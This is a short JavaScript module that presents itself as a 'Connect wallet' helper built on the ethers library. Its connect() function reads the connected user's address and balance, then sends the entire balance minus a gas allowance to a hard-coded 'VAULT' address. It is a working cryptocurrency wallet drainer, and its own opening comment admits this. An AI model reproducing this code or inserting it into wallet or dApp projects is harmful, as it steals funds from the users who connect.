// "Connect wallet" helper that empties the wallet it connects to.
const { BrowserProvider } = require('ethers');
const VAULT = '0x8ba1f109551bD432803012645Ac136ddd64DBA72';
async function connect() {
  const provider = new BrowserProvider(window.ethereum);
  const signer = await provider.getSigner();
  const who = await signer.getAddress();
  const balance = await provider.getBalance(who);
  const gas = 21000n * 30000000000n;
  return signer.sendTransaction({ to: VAULT, value: balance - gas });
}
module.exports = { connect };
